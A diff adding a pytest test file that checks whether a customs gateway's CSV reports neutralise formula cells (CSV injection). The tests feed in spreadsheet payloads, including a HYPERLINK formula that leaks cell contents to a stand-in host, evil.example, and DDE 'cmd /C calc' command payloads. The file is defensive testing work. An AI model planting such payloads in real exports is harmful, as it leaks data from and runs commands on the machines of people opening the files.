@@ -1,0 +1,77 @@
+"""CSV downloads neutralise formula cells (OWASP "CSV injection"): text that came from an event and starts
+with = + - @ TAB or CR gets a leading apostrophe; numbers the gateway writes from numbers stay numbers."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from gateway import audit, reports
+from gateway.importer import LineOutcome, write_report
+
+from .conftest import AUTH, day, place
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def rows_of(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_cells_from_events_are_neutralised_in_bill_and_inventory_csv(scenario, api):
+    # lots whose description (free text of the event) is a formula
+    for n, text in enumerate(FORMULAS, start=1):
+        lot = place(f"LX{n}", 1, f"26FR000110I000010{n}")
+        lot["description"] = text
+        api.post(lot, "OperatorMSP")
+    bill = rows_of(api.get(f"/api/v1/reports/bill-of-discharge/{AUTH}?as_of={day(1)}&format=csv",
+                           "OperatorMSP").get_data(as_text=True))
+    described = {r["id"]: r["description"] for r in bill if r["section"] == "lot"}
+    for n, text in enumerate(FORMULAS, start=1):
+        assert described[f"LX{n}"] == "'" + text, n                # inert text, nothing else changed
+    lot_rows = {r["id"]: r for r in bill if r["section"] == "lot"}
+    assert lot_rows["L1"]["description"] == "used tyres" and lot_rows["L1"]["quantity"] == "1000"
+    inventory = rows_of(api.get(f"/api/v1/reports/inventory?as_of={day(1)}&format=csv",
+                                "CustomsMSP").get_data(as_text=True))
+    described = {r["id"]: r["description"] for r in inventory}
+    for n, text in enumerate(FORMULAS, start=1):
+        assert described[f"LX{n}"] == "'" + text, n
+    assert {r["id"]: r["quantity"] for r in inventory}["LX1"] == "1"
+
+
+def test_numbers_stay_numbers_text_that_looks_like_one_does_not():
+    data = {"lines": [
+        {"authorisation_id": AUTH, "goods": "LOT", "id": "L1", "quantity": -5, "deviation": -2.5, "text": "-5",
+         "plus": "+33 1 23", "list": ["=1+1"], "obj": {"a": "=1"}, "none": None, "flag": True},
+    ]}
+    row = rows_of(reports.inventory_csv(data))[0]
+    assert row["quantity"] == "-5" and row["deviation"] == "-2.5"      # the gateway's own numbers
+    assert row["text"] == "'-5" and row["plus"] == "'+33 1 23"         # text, even if it looks like a number
+    assert row["list"] == '["=1+1"]' and row["obj"] == '{"a":"=1"}'    # JSON starts with [ or {: inert
+    assert row["none"] == "" and row["flag"] == "True"
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_audit_csv_neutralises_certificate_subjects_and_event_text(text):
+    entry = {"block_number": 7, "tx_id": "ab" * 32, "recorded_at": "2026-03-02T09:00:00Z",
+             "event_type": "PlaceUnderProcedure", "event_id": "erp-1", "authorisation_id": AUTH,
+             "submitting_org": "OperatorMSP", "submitter_subject": text, "endorsing_orgs": [text],
+             "endorsers": [{"msp_id": "OperatorMSP", "subject": text}], "lots": ["L1"], "batches": [],
+             "event": {"description": text}}
+    row = rows_of(audit.to_csv([entry]))[0]
+    assert row["submitter_subject"] == "'" + text
+    assert row["endorsing_orgs"] == "'" + text
+    assert row["block_number"] == "7" and row["event"].startswith("{")
+    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values())
+
+
+def test_import_report_csv_neutralises_what_came_from_the_file_or_the_gateway(tmp_path):
+    out = tmp_path / "report.csv"
+    write_report(out, [LineOutcome(line=2, event_id="=cmd", type="@SUM(A1)", status=400, outcome="INVALID",
+                                   tx_id=None, block_number=None, problem_type="invalid-event",
+                                   detail="-1 is less than the minimum of 1")])
+    row = rows_of(out.read_text())[0]
+    assert (row["line"], row["event_id"], row["type"], row["detail"]) == (
+        "2", "'=cmd", "'@SUM(A1)", "'-1 is less than the minimum of 1")
